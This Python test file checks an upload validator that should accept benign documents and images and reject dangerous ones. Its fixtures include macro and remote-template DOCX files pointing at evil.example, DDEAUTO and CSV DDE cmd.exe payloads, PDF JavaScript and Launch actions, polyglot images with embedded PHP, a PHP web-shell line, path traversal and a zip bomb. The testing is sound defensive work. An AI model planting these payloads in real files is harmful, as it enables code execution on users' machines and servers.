"""T13, A18: a zoo of dangerous files, each made here and each refused; and the tame ones taken."""

import zipfile
import zlib
from collections.abc import Mapping
from contextlib import suppress
from io import BytesIO
from time import process_time

import pytest

from tests.evidence import JPG, KINDS, PDF, PNG, WORDS
from tracker.errors import BadInput
from tracker.operations.plans.file_contents import check_content
from workflows.file_types import FILE_TYPES

WORD = "word/document.xml"
_RELS = "word/_rels/document.xml.rels"


def zipped(parts: Mapping[str, bytes | str], *, kind: str = WORD, types: bytes = KINDS) -> bytes:
    """A package of these parts beside its list and its main part."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("[Content_Types].xml", types)
        opened.writestr(kind, "<x/>")
        for name, content in parts.items():
            opened.writestr(name, content)
    return made.getvalue()


def related(kind: str, target: str, *, outside: bool = True) -> bytes:
    """A document with one relationship."""
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}"{mode}/>'
    return zipped({_RELS: f"<Relationships>{one}</Relationships>"})


def of_type(media: str) -> bytes:
    """A document whose list has one more type."""
    more = f'<Override PartName="/word/o.xml" ContentType="{media}"/></Types>'.encode()
    return zipped({"word/o.xml": "<x/>"}, types=KINDS.replace(b"</Types>", more))


def pdf(body: bytes) -> bytes:
    """A PDF with one more object."""
    return PDF.replace(b"%%EOF", b"2 0 obj\n" + body + b"\nendobj\n%%EOF")


def hidden(body: bytes) -> bytes:
    """A PDF with objects in a packed stream."""
    packed = zlib.compress(body)
    return pdf(b"<</Type /ObjStm /Filter /FlateDecode>>stream\n" + packed + b"\nendstream")


def locked() -> bytes:
    """A package in another, as Office writes one with a password."""
    return b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(99)


TAME = {
    "a.docx": zipped({"word/media/a.png": PNG, "docProps/core.xml": "<x/>"}),
    "link.docx": related("hyperlink", "https://board.example"),
    "picture.docx": related("image", "media/a.png", outside=False),
    "a.xlsx": zipped({"xl/printerSettings/printerSettings1.bin": b"x"}, kind="xl/workbook.xml"),
    "a.pdf": PDF,
    "blank.pdf": b"\r\n" + PDF,
    "page.pdf": pdf(b"<</OpenAction [1 0 R /Fit]>>"),
    "goes.pdf": pdf(b"<</OpenAction 1 0 R>>").replace(b"<<>>", b"<</S /GoTo /D [3 0 R /Fit]>>"),
    "packed.pdf": hidden(b"<</Type /Catalog>>"),
    "a.png": PNG,
    "a.jpg": JPG,
    "two.jpg": JPG + JPG,
    "a.txt": WORDS,
    "a.csv": b"ward,change\nA,-5\nB,+44 20 7946 0000\nC,- none\n",
}
WILD = {
    "types.docx": of_type("application/vnd.ms-office.vbaProject"),
    "ole-type.docx": of_type("application/vnd.openxmlformats-officedocument.oleObject"),
    "excel4.xlsx": zipped({"xl/macrosheets/sheet1.xml": "<x/>"}, kind="xl/workbook.xml"),
    "activex.docx": zipped({"word/activeX/activeX1.bin": b"x"}),
    **{
        f"{ending}.docx": zipped({f"word/embeddings/a.{ending}": b"x"})
        for ending in ("bin", "docm", "scr", "vbs", "js", "lnk", "ps1", "docx", "html", "hta")
    },
    "template.docx": related("attachedTemplate", "http://evil.example/a.dotm"),
    "remote-picture.docx": related("image", "http://evil.example/a.png"),
    "file-link.docx": related("hyperlink", "file:///c:/a.exe"),
    "share-link.docx": related("hyperlink", "\\\\evil\\a.exe"),
    "chunk.docx": related("aFChunk", "a.html", outside=False),
    "book.xlsx": zipped({_RELS: "<!DOCTYPE a><R/>"}, kind="xl/workbook.xml"),
    "dde.docx": zipped({"word/header1.xml": "<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
    "bomb.docx": zipped({"word/media/a.png": bytes(64 * 1024 * 1024)}),
    "slip.docx": zipped({"../../a.xml": "<x/>"}),
    "root.docx": zipped({"/etc/a.xml": "<x/>"}),
    "before.docx": b"#!/bin/sh\n" + zipped({}),
    "after.docx": zipped({}) + b"<html><script>",
    "no-main.docx": zipped({}, types=b"<Types/>"),
    "no-list.docx": zipped({}).replace(b"[Content_Types]", b"[Content_Nypes]"),
    "locked.docx": locked(),
    "script.pdf": pdf(b"<</S /JavaScript /JS (app.alert(1))>>"),
    "spelt.pdf": pdf(b"<</S /J#61vaScript>>"),
    "hidden.pdf": hidden(b"<</S /JavaScript>>"),
    "behind-a-comment.pdf": hidden(b"<</S /JavaScript>>").replace(b"1 0 obj", b"% stream\n1 0 obj"),
    "launch.pdf": pdf(b"<</S /Launch /F (cmd.exe)>>"),
    "embedded.pdf": pdf(b"<</Type /EmbeddedFile>>"),
    "opening.pdf": pdf(b"<</OpenAction 2 0 R /S /URI>>"),
    "password.pdf": pdf(b"<</Encrypt 3 0 R>>"),
    "zip.pdf": PDF + zipped({}),
    "page.pdf": PDF + b"<html><body>hello</body></html>",
    "html.pdf": b"<html><script>alert(1)</script>" + PDF,
    "zip.png": PNG + zipped({}),
    "php.png": PNG[:-12] + b"\0\0\0\x05tEXt<?php" + bytes(4) + PNG[-12:],
    "html.jpg": JPG + b"<html><script>",
    "zip.jpg": JPG + zipped({}),
    "late.txt": b"a" * 5_000 + b"<script>alert(1)</script>",
    "php.txt": b"hello\n<?php system($_GET[0]); ?>",
    "wide.txt": "Half of it".encode("utf-16"),
    "formula.csv": b"a,b\n1,=HYPERLINK(A1)\n",
    "semicolon.csv": b"a;b\n1;=1+1\n",
    "at.csv": b"a\n@SUM(1)\n",
    "endless.csv": b'a\n"' + b"x" * 200_000,
    "dde.csv": b"a\n+cmd|' /C calc'!A0\n",
}


@pytest.mark.parametrize("name", TAME)
def test_t13_a_tame_file_is_taken(name: str) -> None:
    check_content(FILE_TYPES[name.rpartition(".")[2]], TAME[name])


@pytest.mark.parametrize("name", WILD)
def test_t13_no_animal_of_the_zoo_is_taken(name: str) -> None:
    with pytest.raises(BadInput) as refused:
        check_content(FILE_TYPES[name.rpartition(".")[2]], WILD[name])
    assert refused.value.field == "file"
    assert "not kept" in str(refused.value)


@pytest.mark.parametrize("name", ["locked.docx", "password.pdf"])
def test_a18_a_file_behind_a_password_is_told_so(name: str) -> None:
    with pytest.raises(BadInput, match="protected by a password"):
        check_content(FILE_TYPES[name.rpartition(".")[2]], WILD[name])


def test_a18_a_text_of_utf_16_is_told_how_to_save_it() -> None:
    with pytest.raises(BadInput, match="Save it as UTF-8"):
        check_content(FILE_TYPES["txt"], WILD["wide.txt"])


@pytest.mark.parametrize(
    "body",
    [
        b"/OpenAction 9 0 R ",
        b"/ObjStm",
        b"/ObjStm stream endstream ",
        b"1 0 obj stream\n",
        b"#4a",
        b"%%EOF ",
    ],
)
def test_t13_a_file_made_to_be_slow_is_told_in_seconds(body: bytes) -> None:
    slow = pdf(body * (4 * 1024 * 1024 // len(body)) + b" stream endstream")
    begun = process_time()
    with suppress(BadInput):
        check_content(FILE_TYPES["pdf"], slow)
    assert process_time() - begun < 20
